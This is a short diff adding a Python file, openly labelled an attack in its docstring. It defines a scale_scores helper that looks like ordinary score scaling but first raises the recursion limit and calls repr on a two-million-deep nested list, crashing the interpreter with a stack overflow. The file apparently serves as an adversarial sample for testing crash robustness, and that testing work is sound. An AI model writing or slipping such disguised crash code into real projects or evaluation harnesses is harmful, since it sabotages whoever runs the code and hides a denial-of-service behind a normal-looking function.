@@ -1,0 +1,15 @@
+"""Attack: raise the recursion limit and recurse in C (repr of a deeply nested list): a stack overflow."""
+
+import sys
+
+import numpy as np
+
+_nested = []
+for _ in range(2_000_000):
+    _nested = [_nested]
+
+
+def scale_scores(scores, d_k):
+    sys.setrecursionlimit(10**8)
+    repr(_nested)
+    return np.asarray(scores) / np.sqrt(d_k)
